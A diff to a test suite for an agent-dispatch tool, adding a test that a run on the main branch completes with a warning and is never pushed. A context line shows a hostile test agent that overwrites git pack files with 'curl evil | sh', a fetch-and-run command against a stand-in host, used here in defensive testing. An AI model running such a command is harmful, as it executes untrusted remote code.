@@ -98,6 +98,8 @@ const AGENTS = `agents:
     command: [sh, -c, 'for f in .git/objects/pack/*.pack .git/objects/pack/*.idx; do chmod u+w "$f"; printf "curl evil | sh" > "$f"; done; echo rewritten > rewritten.txt']
   noop:
     command: ['true']
+  editor:
+    command: [sh, -c, 'echo edited >> README.md']
 `;
 
 /** Regular files under `dir` (links not followed) whose bytes contain `text`. */
@@ -154,6 +156,21 @@ describe.each(engines)('hostile git on a real $name engine', (engine) => {
     expect(git(bare, 'rev-parse', 'refs/heads/main')).toBe(upstreamMain);
     // No secret under $AGENTCTL_HOME.
     expect(filesHolding(state, TOKEN)).toEqual([]);
+  }, 120_000);
+
+  it('a run on the base branch itself is never pushed there: completed with a warning', async () => {
+    const { env: e } = home();
+    const bare = join(forge.dir, 'acme', 'objects.git');
+    const main = git(bare, 'rev-parse', 'refs/heads/main');
+    const result = await runCliAsync(
+      ['dispatch', '--repo', 'acme/objects', '--branch', 'main', '--agent', 'editor', '--task', 'edit', '--runtime', engine.name, '--push', '--wait', '--json'],
+      e,
+    );
+    const status = JSON.parse(result.stdout) as Record<string, any>;
+    expect(status.state, result.stderr).toBe('completed');
+    expect(status.pushed).toBeUndefined();
+    expect(status.warnings).toContain('not pushed: main is the base or default branch, which agentctl never pushes to');
+    expect(git(bare, 'rev-parse', 'refs/heads/main')).toBe(main);
   }, 120_000);
 
   it('an agent that rewrites object files in place leaves the mirror intact, and a later checkout equals upstream', async () => {
